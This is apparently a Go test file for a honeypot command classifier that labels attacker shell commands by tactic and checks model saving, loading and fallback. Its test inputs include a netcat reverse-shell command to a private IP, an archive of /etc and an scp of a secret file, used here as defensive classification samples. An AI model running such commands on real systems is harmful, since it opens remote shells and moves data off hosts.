package classify

import (
	"bytes"
	"errors"
	"math"
	"os"
	"path/filepath"
	"testing"

	"github.com/klauspost/compress/gzip"

	"github.com/mtokuda/honeysift/internal/category"
)

func newSeedClassifier(t *testing.T) *Classifier {
	t.Helper()
	c, err := New(filepath.Join(t.TempDir(), "model.json.gz"), Options{})
	if err != nil {
		t.Fatal(err)
	}
	return c
}

func TestSeedPredictions(t *testing.T) {
	c := newSeedClassifier(t)

	// Distinctive seed commands must classify back to the category they were
	// seeded under. Seeds duplicated across categories (scp, sftp) cannot.
	cases := map[string]category.Label{
		"sudo -l":     category.PrivilegeEscalation,
		"ls -la":      category.Reconnaissance,
		"crontab":     category.Persistence,
		"ssh-copy-id": category.LateralMovement,
		"base64":      category.DataExfiltration,
		"clear":       category.Miscellaneous,
	}
	for cmd, want := range cases {
		p := c.Predict(cmd)
		if p.Category != want {
			t.Errorf("Predict(%q) = %s, want %s (confidence %.3f)", cmd, p.Category, want, p.Confidence)
		}
	}
}

func TestPredictEmptyCommand(t *testing.T) {
	c := newSeedClassifier(t)
	p := c.Predict("")
	if !category.Valid(p.Category) {
		t.Fatalf("empty command predicted unknown category %q", p.Category)
	}
	sum := 0.0
	for _, v := range p.Distribution {
		sum += v
	}
	if math.Abs(sum-1.0) > 1e-9 {
		t.Fatalf("empty command distribution sums to %v", sum)
	}
	if p.Confidence <= 0 || p.Confidence > 1 {
		t.Fatalf("confidence out of range: %v", p.Confidence)
	}
}

func TestBatchPredictOrderAndIndependence(t *testing.T) {
	c := newSeedClassifier(t)
	commands := []string{"ls -la", "sudo su -", "scp secret.txt remote:/tmp", "mkdir hidden", "ls -la"}
	preds := c.BatchPredict(commands)
	if len(preds) != len(commands) {
		t.Fatalf("expected %d predictions, got %d", len(commands), len(preds))
	}
	for i, p := range preds {
		if p.Command != commands[i] {
			t.Fatalf("prediction %d out of order: %q != %q", i, p.Command, commands[i])
		}
		solo := c.Predict(commands[i])
		if solo.Category != p.Category || math.Abs(solo.Confidence-p.Confidence) > 1e-12 {
			t.Fatalf("batch prediction for %q differs from solo prediction", commands[i])
		}
	}
}

func TestBootstrapPersistsArtifact(t *testing.T) {
	path := filepath.Join(t.TempDir(), "model.json.gz")
	if _, err := New(path, Options{}); err != nil {
		t.Fatal(err)
	}
	if _, err := os.Stat(path); err != nil {
		t.Fatalf("bootstrap did not persist model artifact: %v", err)
	}
}

func TestSaveLoadRoundTrip(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "model.json.gz")

	first, err := New(path, Options{})
	if err != nil {
		t.Fatal(err)
	}

	// A fresh instance pointed at the same artifact must load it and agree on
	// a held-out set.
	second, err := New(path, Options{})
	if err != nil {
		t.Fatal(err)
	}

	heldOut := []string{"ps aux", "nc -e /bin/sh 10.0.0.5 4444", "tar -czvf data.tar.gz /etc", "cd /tmp", ""}
	for _, cmd := range heldOut {
		a, b := first.Predict(cmd), second.Predict(cmd)
		if a.Category != b.Category {
			t.Fatalf("%q: loaded model predicts %s, original %s", cmd, b.Category, a.Category)
		}
		if math.Abs(a.Confidence-b.Confidence) > 1e-12 {
			t.Fatalf("%q: confidence drifted: %v != %v", cmd, a.Confidence, b.Confidence)
		}
	}
}

func TestLoadCorruptArtifactFallsBack(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "model.json.gz")
	if err := os.WriteFile(path, []byte("definitely not gzip"), 0o644); err != nil {
		t.Fatal(err)
	}

	c, err := New(path, Options{})
	if err != nil {
		t.Fatalf("corrupt artifact must not fail construction: %v", err)
	}
	if p := c.Predict("sudo -l"); p.Category != category.PrivilegeEscalation {
		t.Fatalf("fallback model not trained from seed corpus: got %s", p.Category)
	}
}

func TestLoadTruncatedStatisticsFallsBack(t *testing.T) {
	// A well-formed gzip envelope around feature rows shorter than the
	// vocabulary: loading must reject it and retrain from the seed corpus
	// rather than panic on the first prediction.
	artifact := `{
		"alpha": 1,
		"vectorizer": {"min_n": 1, "max_n": 3, "vocabulary": {"a": 0}},
		"classes": ["miscellaneous", "reconnaissance"],
		"class_log_prior": [-0.7, -0.7],
		"feature_log_prob": [[], []]
	}`
	var buf bytes.Buffer
	zw := gzip.NewWriter(&buf)
	if _, err := zw.Write([]byte(artifact)); err != nil {
		t.Fatal(err)
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}

	path := filepath.Join(t.TempDir(), "model.json.gz")
	if err := os.WriteFile(path, buf.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}

	c, err := New(path, Options{})
	if err != nil {
		t.Fatalf("truncated artifact must not fail construction: %v", err)
	}
	if p := c.Predict("a"); !category.Valid(p.Category) {
		t.Fatalf("prediction after fallback: %+v", p)
	}
	if p := c.Predict("sudo -l"); p.Category != category.PrivilegeEscalation {
		t.Fatalf("fallback model not trained from seed corpus: got %s", p.Category)
	}
}

func TestTrainReplacesModel(t *testing.T) {
	c := newSeedClassifier(t)

	err := c.Train([]string{"a", "b"}, []category.Label{category.Reconnaissance})
	if !errors.Is(err, ErrInvalidInput) {
		t.Fatalf("mismatched training input: expected ErrInvalidInput, got %v", err)
	}

	// Refit on a corpus where "zzzz" is pure exfiltration: prediction must
	// follow the new model, not the seed corpus.
	commands := []string{"zzzz", "zzzz upload", "qqqq", "qqqq probe"}
	labels := []category.Label{
		category.DataExfiltration, category.DataExfiltration,
		category.Reconnaissance, category.Reconnaissance,
	}
	if err := c.Train(commands, labels); err != nil {
		t.Fatal(err)
	}
	if p := c.Predict("zzzz"); p.Category != category.DataExfiltration {
		t.Fatalf("retrained model ignored new data: got %s", p.Category)
	}
	if len(c.Predict("zzzz").Distribution) != 2 {
		t.Fatalf("full refit should only know the trained classes")
	}
}
